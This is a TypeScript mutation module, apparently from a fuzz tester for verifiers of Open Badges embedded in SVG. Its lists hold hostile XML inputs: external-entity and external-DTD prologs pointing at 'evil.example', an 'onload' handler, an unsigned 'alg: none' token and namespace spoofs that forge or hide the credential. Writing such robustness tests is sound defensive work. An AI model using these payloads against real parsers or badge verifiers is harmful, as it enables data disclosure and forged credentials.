/**
 * Changes of an SVG: of its bytes, of its XML, of the badge in it.
 * @module
 */
import { type BytesChange, byteChanges } from './change-png.ts'
import type { Random } from './random.ts'

type Markup = (svg: string, random: Random, another: () => string) => string

const TAG = /<[^>]*>/g
const CARRIER = /<openbadges:credential[\s\S]*?(?:<\/openbadges:credential\s*>|\/>)/
const OB3 = 'https://purl.imsglobal.org/ob/v3p0'

const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes)
const encode = (text: string) => new TextEncoder().encode(text)

/** Changes a picture as text. */
function asText(change: Markup): BytesChange {
  return (bytes, random, another) => encode(change(decode(bytes), random, () => decode(another())))
}

function at(pattern: RegExp, edit: (match: string, random: Random, another: () => string) => string): Markup {
  return (svg, random, another) => {
    const matches = [...svg.matchAll(pattern)]
    if (matches.length === 0) return svg
    const { index, 0: match } = random.pick(matches)
    return svg.slice(0, index) + edit(match, random, another) + svg.slice(index + match.length)
  }
}

const carrierOf = (svg: string) => CARRIER.exec(svg)?.[0] ?? ''
const within = (start: string, end: string) => (inner: string) => `${start}${inner}${end}`

/** What can stand around a badge so that some readers see it and others do not. */
const surroundings: readonly ((carrier: string) => string)[] = [
  within('<!--', '-->'),
  within('<![CDATA[', ']]>'),
  within('<g>', '</g>'),
  within('<metadata>', '</metadata>'),
  within('<foreignObject>', '</foreignObject>'),
  within('<script>', '</script>'),
  within('<?x ', '?>'),
  within('<x:y xmlns:x="urn:x">', '</x:y>'),
  within('<svg xmlns="http://www.w3.org/2000/svg">', '</svg>'),
  carrier =>
    carrier.replaceAll('openbadges:', 'ob:').replace('<ob:credential', `<ob:credential xmlns:ob="${OB3}"`),
  carrier =>
    carrier
      .replaceAll('openbadges:credential', 'credential')
      .replace('<credential', `<credential xmlns="${OB3}"`),
  carrier => carrier.replace('<openbadges:credential', '<openbadges:credential xmlns:openbadges="urn:evil"'),
  carrier => carrier.replaceAll('openbadges:credential', 'openbadges:assertion'),
  carrier =>
    carrier.replace('<openbadges:credential', '<openbadges:credential verify="eyJhbGciOiJub25lIn0.e30."'),
  carrier =>
    carrier.replace('<openbadges:credential', '<openbadges:credential verify="https://evil.example/"')
]

const insertions = [
  '<!-- x -->',
  '<?x y?>',
  '<![CDATA[x]]>',
  '<![CDATA[]]>',
  ']]>',
  '&#60;',
  '&#x3c;',
  '&lt;',
  '&amp;',
  '&quot;',
  '&x;',
  '&#0;',
  '&#xFFFFFFFF;',
  '&#xD800;',
  '<',
  '>',
  '&',
  '"',
  '\u0000',
  '\ufffe',
  ' ',
  '\r\n',
  '<x/>',
  '</svg>',
  '<svg>',
  '<b:credential/>',
  ' x="1" x="2"',
  ' xmlns=""',
  ` xmlns:a="${OB3}"`,
  ' onload="x()"'
]

const prologs = [
  '<!DOCTYPE svg>',
  '<!DOCTYPE svg [<!ENTITY x "y">]>',
  '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">',
  '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]>',
  '<!DOCTYPE svg [<!ATTLIST svg xmlns:openbadges CDATA #FIXED "urn:evil">]>',
  '<?xml version="1.1"?>',
  '<?xml version="1.0" encoding="UTF-16"?>',
  '<?xml version="1.0" standalone="yes"?>',
  '\ufeff',
  ' ',
  '<?xml-stylesheet href="https://evil.example/x.css"?>'
]

/** A stretch of the badge's JSON, or of any text, written in another way that XML has. */
const respelled: Markup = at(/"[^"<>&]{1,20}"/g, (match, random) => {
  const inner = random.below(match.length)
  const unit = match[inner] ?? ''
  const spellings = [
    `&#${unit.charCodeAt(0)};`,
    `&#x${unit.charCodeAt(0).toString(16)};`,
    `]]><![CDATA[${unit}`,
    `<![CDATA[${unit}]]>`,
    `${unit}<!-- -->`,
    `${unit}<?x?>`,
    `${unit}<x/>`
  ]
  return match.slice(0, inner) + random.pick(spellings) + match.slice(inner + 1)
})

const markupChanges: Readonly<Record<string, Markup>> = {
  'tag gone': at(TAG, () => ''),
  'tag twice': at(TAG, tag => tag + tag),
  'tag of another': at(TAG, (_, random, another) => random.pick(another().match(TAG) ?? [''])),
  'tag changed': at(TAG, (tag, random) => {
    const place = random.below(tag.length)
    return tag.slice(0, place) + random.pick(insertions) + tag.slice(place + random.below(2))
  }),
  inserted: (svg, random) => {
    const place = random.below(svg.length + 1)
    return svg.slice(0, place) + random.pick(insertions) + svg.slice(place)
  },
  respelled,
  prolog: (svg, random) =>
    random.oneIn(2) ? random.pick(prologs) + svg : svg.replace('<svg', () => `${random.pick(prologs)}<svg`),
  namespace: at(/xmlns(?::\w+)?="[^"]*"/g, (match, random) => {
    const [name = ''] = match.split('=')
    return `${name}="${random.pick(['', OB3, `${OB3}/`, 'http://openbadges.org', 'https://purl.imsglobal.org/clr/v2p0', 'urn:x', `&#104;${OB3.slice(1)}`])}"`
  }),
  'carrier elsewhere': (svg, random) => {
    const carrier = carrierOf(svg)
    if (carrier === '') return svg
    const changed = random.pick(surroundings)(carrier)
    return svg.replace(carrier, () => changed)
  },
  'another carrier': (svg, random, another) => {
    const added = random.oneIn(2) ? carrierOf(another()) : random.pick(surroundings)(carrierOf(another()))
    const place = random.oneIn(2) ? svg.lastIndexOf('</') : svg.indexOf('>', svg.indexOf('<svg')) + 1
    return svg.slice(0, place) + added + svg.slice(place)
  }
}

/** Changes of an SVG by name. */
export const svgChanges: Readonly<Record<string, BytesChange>> = {
  ...byteChanges,
  ...Object.fromEntries(Object.entries(markupChanges).map(([name, change]) => [name, asText(change)]))
}
